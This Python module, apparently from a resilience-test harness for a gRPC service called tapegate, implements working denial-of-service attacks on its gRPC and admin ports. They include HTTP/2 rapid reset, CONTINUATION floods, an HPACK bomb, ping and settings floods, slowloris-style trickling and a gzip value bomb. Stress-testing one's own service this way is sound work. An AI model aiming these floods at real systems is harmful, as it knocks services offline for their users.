"""Attacks on the gRPC port and the admin port. Each takes an `Attack`, and returns what it has done."""

import gzip
import itertools
import os
import resource
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, replace
from multiprocessing import get_context

import grpc
from tapegate.v1.tape_service_pb2 import ListTapesRequest
from tapegate.v1.tape_service_pb2_grpc import TapeServiceStub

from harness.siege.flood import ATTACKERS_ADDRESS, Buffers, Done, flood
from harness.siege.frames import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEALTH,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    REFLECTION,
    RST_STREAM,
    UNKNOWN,
    WINDOW_UPDATE,
    call_fields,
    data,
    field,
    frame,
    headers,
    integer,
    message,
    of_stream,
    preface,
    reset,
    settings,
    settings_ack,
    window,
)

# Streams in one buffer.
BATCH = 200
# How much slower floods are where the service is a development build.
GENTLY = 0.02


@dataclass(frozen=True)
class Attack:
    """Whom to attack, for how long, and how hard: 1 is what the service was attacked with when it broke."""

    grpc: str
    admin: str
    token: str
    seconds: float
    strength: float

    @property
    def target(self) -> tuple[str, int]:
        host, _, port = self.grpc.rpartition(":")
        return host, int(port)

    def of_admin(self) -> "Attack":
        return replace(self, grpc=self.admin)

    def many(self, count: int) -> int:
        return max(1, round(count * self.strength))

    def flood(
        self, connections: int, buffers: Callable[[], Buffers], reads: bool = True, every: float | None = None
    ) -> Done:
        if every is None:
            every = 0 if self.strength == 1 else GENTLY
        return flood(self.target, self.seconds, connections, buffers, reads, every)

    def batches(self, of_stream: Callable[[int], bytes]) -> Buffers:
        """Buffers of frames for ever new streams."""
        yield preface()
        streams = itertools.count(1, 2)
        while True:
            yield b"".join(map(of_stream, itertools.islice(streams, self.many(BATCH))))


def again(first: bytes, buffer: bytes) -> Buffers:
    yield first
    yield from itertools.repeat(buffer)


def once(*buffers: bytes) -> Buffers:
    yield from buffers


def listing(attack: Attack, **more: str) -> bytes:
    return call_fields("ListTapes", attack.token, {name.replace("_", "-"): value for name, value in more.items()})


def rapid_reset(attack: Attack) -> Done:
    block = listing(attack)
    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block, END_HEADERS) + reset(n)))


def made_you_reset(attack: Attack) -> Done:
    """An increment of 0 makes the service reset the stream."""
    block = listing(attack)
    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block) + window(n, 0)))


def continuation(attack: Attack) -> Done:
    first = preface() + headers(1, listing(attack), 0)
    more = frame(CONTINUATION, 0, 1, field("x-more", "a" * 1000) * 8) * attack.many(20)
    return attack.flood(4, lambda: again(first, more))


def hpack_bomb(attack: Attack) -> Done:
    """A large field in the dynamic table, named thousands of times by one byte each."""
    entry = listing(attack) + field("x-bomb", "a" * 3900, is_indexed=True)
    bomb = entry + integer(62, 7, 0x80) * attack.many(8000)
    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, bomb)))


def large_headers(attack: Attack) -> Done:
    block = listing(attack) + field("x-large", "a" * 15000)
    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block, END_HEADERS | END_STREAM)))


def empty_data(attack: Attack) -> Done:
    first = preface() + headers(1, listing(attack))
    return attack.flood(4, lambda: again(first, data(1, b"") * attack.many(1000)))


def ping_flood(attack: Attack) -> Done:
    buffer = frame(PING, 0, 0, b"........") * attack.many(1000)
    return attack.flood(attack.many(50), lambda: again(preface(), buffer), reads=False)


def settings_flood(attack: Attack) -> Done:
    buffer = settings({INITIAL_WINDOW_SIZE: 65535}) * attack.many(1000)
    return attack.flood(attack.many(50), lambda: again(preface(), buffer), reads=False)


def other_frames(attack: Attack) -> Done:
    """Frames that need no answer."""
    priority = frame(PRIORITY, 0, 3, b"\0\0\0\0\x10")
    buffer = (priority + frame(UNKNOWN, 0, 0, b"........") + window(0, 1)) * attack.many(400)
    return attack.flood(4, lambda: again(preface(), buffer))


def slow_prefaces(attack: Attack) -> Done:
    """A byte of the preface at a time."""
    return attack.flood(
        attack.many(400),
        lambda: (bytes([byte]) for byte in preface()),
        every=attack.seconds / 8,
    )


def slow_handshakes(attack: Attack) -> Done:
    """The beginning of a ClientHello, and nothing more."""
    return attack.flood(attack.many(400), lambda: once(b"\x16\x03\x01\x02\x00\x01"))


def idle_connections(attack: Attack) -> Done:
    return attack.flood(attack.many(10_000), lambda: once(preface()))


def half_closed(attack: Attack) -> Done:
    """The side for writing is closed, and the answer not read."""
    request = headers(1, listing(attack)) + data(1, message(ListTapesRequest().SerializeToString()), END_STREAM)
    done, ends, held = Done(), time.monotonic() + attack.seconds, []
    while time.monotonic() < ends:
        with suppress(OSError):
            connection = socket.create_connection(attack.target, 5, source_address=(ATTACKERS_ADDRESS, 0))
            connection.sendall(preface({INITIAL_WINDOW_SIZE: 0}) + request)
            connection.shutdown(socket.SHUT_WR)
            held.append(connection)
            done.connections += 1
        if len(held) == attack.many(400):
            time.sleep(0.01)
            held.pop(0).close()
    return done


def trickled_requests(attack: Attack) -> Done:
    """On each connection as many calls as it may have, whose messages come byte by byte."""

    def buffers() -> Buffers:
        streams = range(1, 400, 2)
        yield preface() + b"".join(headers(n, listing(attack)) for n in streams)
        yield b"".join(data(n, b"\0\0\0\x03\xe8") for n in streams)
        while True:
            yield b"".join(data(n, b".") for n in streams)

    return attack.flood(attack.many(30), buffers, every=0.1)


def unread_lists(attack: Attack) -> Done:
    """Lists of large pages, by clients that give no window for the answers."""
    block = listing(attack, cache_control="no-cache")
    request = message(ListTapesRequest(limit=1000).SerializeToString())
    calls = b"".join(headers(n, block) + data(n, request, END_STREAM) for n in range(1, 400, 2))
    first = preface({INITIAL_WINDOW_SIZE: 0}) + window(0, 1 << 30)
    return attack.flood(attack.many(20), lambda: once(first + calls))


def strangers(attack: Attack) -> Done:
    """Calls without a token."""
    block = call_fields("ListTapes")
    request = message(b"")
    return attack.flood(
        4,
        lambda: attack.batches(lambda n: headers(n, block) + data(n, request, END_STREAM)),
    )


def health_checks(attack: Attack) -> Done:
    """Checks, which need no token."""
    block = call_fields("Check", service=HEALTH)
    return attack.flood(
        attack.many(30),
        lambda: attack.batches(lambda n: headers(n, block) + data(n, message(b""), END_STREAM)),
    )


def health_watches(attack: Attack) -> Done:
    block = call_fields("Watch", service=HEALTH)
    calls = b"".join(headers(n, block) + data(n, message(b""), END_STREAM) for n in range(1, 400, 2))
    return attack.flood(attack.many(200), lambda: once(preface() + calls))


def incomplete_checks(attack: Attack) -> Done:
    """Checks whose message does not end."""
    block = call_fields("Check", service=HEALTH)
    calls = b"".join(headers(n, block) + data(n, b"\0\0\0\x0f\xff" + bytes(4000)) for n in range(1, 400, 2))
    return attack.flood(attack.many(200), lambda: once(preface() + calls))


class Window:
    """What a connection may still send, as HTTP/2's flow control has it."""

    def __init__(self, connection: socket.socket):
        self._connection, self._received = connection, b""
        # Of the stream and of the connection.
        self._left = {0: 65_535, 1: 65_535}

    def send(self, frame: bytes, content: int):
        while min(self._left.values()) < content:
            self._read()
        self._connection.sendall(frame)
        self._left = {stream: left - content for stream, left in self._left.items()}

    def _read(self):
        received = self._connection.recv(1 << 16)
        if not received:
            raise ConnectionResetError
        self._received += received
        while len(self._received) >= 9 and len(self._received) >= 9 + (length := int.from_bytes(self._received[:3])):
            kind, stream = self._received[3], int.from_bytes(self._received[5:9])
            if kind in (RST_STREAM, GOAWAY):
                raise ConnectionResetError
            if kind == WINDOW_UPDATE:
                self._left[stream] += int.from_bytes(self._received[9:13])
            self._received = self._received[9 + length :]


def incomplete_lists(attack: Attack) -> Done:
    """Requests of a megabyte, whose last byte does not come."""
    done, ends, held = Done(), time.monotonic() + attack.seconds, []
    while time.monotonic() < ends:
        connection = socket.create_connection(attack.target, 5, source_address=(ATTACKERS_ADDRESS, 0))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        held.append(connection)
        done.connections += 1
        try:
            connection.sendall(preface() + settings_ack() + headers(1, listing(attack)))
            window = Window(connection)
            window.send(data(1, b"\0\0\x0f\xff\xff"), 5)
            for _ in range(65):
                window.send(data(1, bytes(16_000)), 16_000)
                done.megabytes += 0.016
        except OSError:
            done.refused += 1
        if len(held) == attack.many(300):
            held.pop(0).close()
    return done


def many_messages(attack: Attack) -> Done:
    """Requests that have thousands of messages instead of one."""
    block = listing(attack)
    messages = data(1, message(b"") * 3000)
    return attack.flood(2, lambda: attack.batches(lambda n: headers(n, block) + of_stream(messages, n)))


def many_values(attack: Attack) -> Done:
    """Requests of a kilobyte, which is compressed and has half a million values."""
    block = call_fields("DescribeTapes", attack.token, {"grpc-encoding": "gzip"})
    tape_arns = gzip.compress(bytes([2 << 3 | 2, 0]) * 500_000)
    request = data(1, b"\1" + len(tape_arns).to_bytes(4) + tape_arns, END_STREAM)
    return attack.flood(2, lambda: attack.batches(lambda n: headers(n, block) + of_stream(request, n)))


def new_connections(attack: Attack) -> Done:
    """As many calls as a connection may have, and then another connection."""
    block = call_fields("NoSuchMethod", attack.token)
    first = preface() + b"".join(headers(n, block) + data(n, message(b""), END_STREAM) for n in range(1, 400, 2))
    done, ends = Done(), time.monotonic() + attack.seconds
    while time.monotonic() < ends:
        opened = []
        for _ in range(attack.many(40)):
            with suppress(OSError):
                connection = socket.create_connection(attack.target, 5, source_address=(ATTACKERS_ADDRESS, 0))
                connection.settimeout(0.01)
                opened.append(connection)
                connection.sendall(first)
                done.connections += 1
                done.megabytes += len(first) / 1e6
        for connection in opened:
            with suppress(OSError):
                connection.recv(1 << 16)
            connection.close()
    return done


def refused_streams(attack: Attack) -> Done:
    """Ever more calls, beyond max_concurrent_streams, whose messages do not come."""
    block = listing(attack)
    return attack.flood(attack.many(30), lambda: attack.batches(lambda n: headers(n, block)))


def reflection_questions(attack: Attack) -> Done:
    """Questions on one stream, without a pause."""
    block = call_fields("ServerReflectionInfo", attack.token, service=REFLECTION)
    name = b"tapegate/v1/tape_service.proto"
    file_by_filename = bytes([3 << 3 | 2, len(name)]) + name
    questions = data(1, message(file_by_filename)) * attack.many(BATCH)
    return attack.flood(attack.many(30), lambda: again(preface() + headers(1, block), questions))


def large_messages(attack: Attack) -> Done:
    """Messages of 5 MB."""
    done, ends = Done(), time.monotonic() + attack.seconds
    with grpc.insecure_channel(attack.grpc) as channel:
        call = channel.unary_stream("/tapegate.v1.TapeService/ListTapes")
        body = bytes(5_000_000)
        while time.monotonic() < ends:
            with suppress(grpc.RpcError):
                list(call(body, metadata=[("authorization", f"Bearer {attack.token}")], timeout=10))
            done.connections += 1
            done.megabytes += len(body) / 1e6
    return done


def quick_cancels(attack: Attack) -> Done:
    """Lists that a stock client begins and cancels at once."""
    done, ends = Done(), time.monotonic() + attack.seconds
    with grpc.insecure_channel(attack.grpc) as channel:
        stub = TapeServiceStub(channel)
        metadata = [("authorization", f"Bearer {attack.token}")]
        while time.monotonic() < ends:
            for call in [stub.ListTapes(ListTapesRequest(), metadata=metadata, timeout=10) for _ in range(50)]:
                call.cancel()
            done.connections += 50
    return done


def idle_admin_connections(attack: Attack) -> Done:
    request = b"GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n"
    return attack.of_admin().flood(128, lambda: once(request))


def unread_metrics(attack: Attack) -> Done:
    """Requests for the page of metrics, whose answers are not read."""
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * attack.many(20)
    return attack.of_admin().flood(100, lambda: itertools.repeat(request), reads=False)


# Those on a port without TLS.
ATTACKS = {
    attack.__name__: attack
    for attack in [
        rapid_reset,
        made_you_reset,
        continuation,
        hpack_bomb,
        large_headers,
        empty_data,
        ping_flood,
        settings_flood,
        other_frames,
        slow_prefaces,
        idle_connections,
        half_closed,
        trickled_requests,
        unread_lists,
        strangers,
        health_checks,
        health_watches,
        incomplete_checks,
        incomplete_lists,
        many_messages,
        many_values,
        new_connections,
        refused_streams,
        reflection_questions,
        large_messages,
        quick_cancels,
        idle_admin_connections,
        unread_metrics,
    ]
}


def _run(names: list[str], attack: Attack, results):
    # Its own processor time is no fault of the service.
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    every = ATTACKS | {slow_handshakes.__name__: slow_handshakes}
    results.put({name: every[name](attack) for name in names})


class Attacker:
    """Attacks, one after the other, in a process of their own and on one processor."""

    def __init__(self, names: list[str], attack: Attack):
        spawn = get_context("spawn")
        self._results = spawn.Queue()
        self._process = spawn.Process(target=_run, args=(names, attack, self._results), daemon=True)
        self._process.start()

    def done(self, within: float) -> dict[str, Done]:
        done = self._results.get(timeout=within)
        self._process.join(within)
        return done
